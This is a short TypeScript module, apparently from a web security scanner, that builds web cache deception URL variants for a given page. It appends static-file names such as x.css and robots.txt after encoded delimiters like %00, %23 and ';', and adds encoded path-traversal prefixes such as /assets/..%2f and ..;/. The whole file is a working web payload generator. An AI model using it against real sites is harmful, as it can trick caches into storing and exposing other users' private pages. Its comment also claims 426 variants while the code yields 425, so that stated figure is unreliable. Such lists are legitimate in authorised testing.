/** What routers, proxies and caches take for the end of a path. */
const delimiters = [
  ...[
    '',
    '/',
    ';',
    '%00',
    '%0a',
    '%0d',
    '%09',
    '%20',
    '%23',
    '%3f',
    '%26',
    '%3b',
    '%25',
    '%2f',
    '%5c',
    '?',
    '!',
    '~',
    '$',
    '@',
    ',',
    ':',
  ],
  ...['//', '/./', '/../', '/%2e/', '/%2e%2e/', '/..%2f', '..;/', '/;/', '%2f..%2f', '%252f'],
];
const files = [
  'x.css',
  '.css',
  'x.js',
  '.js',
  'logo.png',
  'favicon.ico',
  'font.woff2',
  'index.html',
  'robots.txt',
  'x.avif',
];
const prefixes = [
  '/assets/..%2f',
  '/assets/../',
  '/static/%2e%2e%2f',
  '/assets/..;/',
  '/assets//..//',
  '/assets/x.css/../../',
];

/** Spellings of a page that might be taken for a file: 426 of them. */
export const deceptionsOf = (page: string): string[] => {
  const [path = '', query] = page.split('?', 2);
  const search = query ? `?${query}` : '';
  const endings = delimiters.flatMap((delimiter) => files.map((file) => `${path}${delimiter}${file}${search}`));
  const behind = delimiters
    .slice(1)
    .flatMap((delimiter) => files.slice(0, 3).map((file) => `${page}${delimiter}${file}`));
  return [...endings, ...behind, ...prefixes.flatMap((prefix) => [prefix + path.slice(1), prefix + page.slice(1)])];
};
